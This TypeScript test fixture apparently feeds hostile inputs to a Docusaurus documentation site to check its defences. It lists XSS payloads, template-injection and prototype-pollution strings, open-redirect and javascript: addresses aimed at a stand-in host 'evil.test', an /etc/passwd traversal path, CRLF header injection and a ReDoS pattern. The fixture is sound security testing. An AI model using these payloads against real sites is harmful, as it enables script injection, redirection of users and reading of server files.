/** A host that is not this site's. */
export const foreignHost = 'evil.test';

const run = 'hostile()';

/** Texts that run a script if a page treats them as markup, as code or as an address. Whatever runs calls `hostile`. */
const markup: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `<script src=//${foreignHost}/x.js></script>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<a href=javascript:${run} autofocus onfocus=${run}>a</a>`,
  `<details open ontoggle=${run}>`,
  `<math><mtext><table><mglyph><style><img src onerror=${run}>`,
  `<base href=//${foreignHost}/>`,
  `<meta http-equiv=refresh content="0;url=//${foreignHost}/">`,
  `" autofocus onfocus=${run} x="`,
  `&lt;img src=x onerror=${run}&gt;`,
  `%3Cimg src=x onerror=${run}%3E`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
];
const code: readonly string[] = [
  `';${run};'`,
  `\`\${${run}}\``,
  `{{constructor.constructor('${run}')()}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"polluted":true}}',
  'null',
  '[]',
  '-1e999',
];
const addresses: readonly string[] = [
  `//${foreignHost}/`,
  `/\t/${foreignHost}/`,
  `/\\${foreignHost}/`,
  `https:${foreignHost}`,
  '../../../etc/passwd',
];
const characters: readonly string[] = [
  '%',
  '%E0%A4%A',
  '%00',
  '\u0000',
  '\r\nSet-Cookie: a=b',
  '\u2028\u2029',
  '\u202Eright to left',
  '\uD800',
  '👩‍👩‍👧‍👦'.repeat(20),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍',
  '(((a+)+)+$',
  '[',
  '.*\\',
  '"'.repeat(64),
  'a'.repeat(4000),
];

/** Everything hostile that a reader can be made to bring along, by kind. */
export const hostileKinds = {
  'markup that runs a script or leads elsewhere': markup,
  'code, and names that objects inherit': code,
  'addresses of another host, and paths out of the site': addresses,
  'rare, broken and very many characters': characters,
} as const;

/** All hostile texts. */
export const hostileTexts: readonly string[] = Object.values(hostileKinds).flat();

/** Paths that no page has, or that hosts read in several ways. */
export const hostilePaths: readonly string[] = [
  ...[
    '/%',
    '/docs/%',
    '/docs/%E0%A4%A',
    '/docs/%E0%A4',
    '/docs/%C0%AF',
    '/docs/quickstart%',
    '/blog/%FF?q=%',
  ],
  ...[
    `//${foreignHost}/x.html`,
    `//${foreignHost}//`,
    `/\\${foreignHost}`,
    `/docs//${foreignHost}/index.html`,
  ],
  ...[
    '/docs//quickstart',
    '/docs/quickstart//',
    '//docs/quickstart',
    '/docs/./quickstart',
    '/docs/x/../quickstart',
  ],
  ...[
    '/docs/quickstart/index.html',
    '/docs/quickstart.html',
    '/docs/quickstart.html.html',
    '/docs/;a=b',
    '/docs/@',
  ],
  ...[
    '/__proto__',
    '/docs/constructor',
    '/docs/toString',
    '/docs/v10/__proto__',
    '/docs/hasOwnProperty/index.html',
  ],
  ...markup.slice(0, 8).map((text) => `/docs/${encodeURIComponent(text)}`),
  `/${'a'.repeat(6000)}`,
  `/${'a/'.repeat(800)}`,
];

/** Names in the query that this site, Docusaurus or search engines read. */
export const queryNames = [
  'q',
  'version',
  'docusaurus-theme',
  'docusaurus-data-theme',
  'docusaurus-data-evil',
  'utm_source',
];

/** Every key that the site stores something under. */
export const storageKeys = [
  'theme',
  'theme-source',
  'docusaurus.announcement.id',
  'docusaurus.announcement.dismiss',
  'docs-preferred-version-default',
  'docusaurus.tab.package-manager',
  'search.recent',
  'search.favourite',
];

/** Addresses of saved hits that lead to another site, run a script, or are none. */
export const hostileHits: readonly unknown[] = [
  ...[
    `//${foreignHost}/`,
    `/\t/${foreignHost}/`,
    `/\n/${foreignHost}/`,
    `/\r/${foreignHost}/`,
    `\\\\${foreignHost}/`,
  ],
  ...[
    `/\\${foreignHost}/`,
    `/\\/${foreignHost}/`,
    `https://${foreignHost}/`,
    `https:${foreignHost}`,
    `HTTP:\\\\${foreignHost}`,
  ],
  ...[
    `javascript:${run}`,
    `\tjavascript:${run}`,
    `java\nscript:${run}`,
    `data:text/html,<script>${run}</script>`,
  ],
  ...['blob:x', 'mailto:a@b.c', 'docs', '', ' /docs/', '?q', '#a', 'http://', '//', '///evil.test'],
  ...[null, 1, true, [], {}, { toString: '/docs/' }],
];

/** How many places take a text: each value of the query and of the storage, the hash at the start and later, and the search. */
export const places = queryNames.length + storageKeys.length + 3;

/** How many cases there are. */
export const hostileCases = hostilePaths.length + hostileTexts.length * places + hostileHits.length;
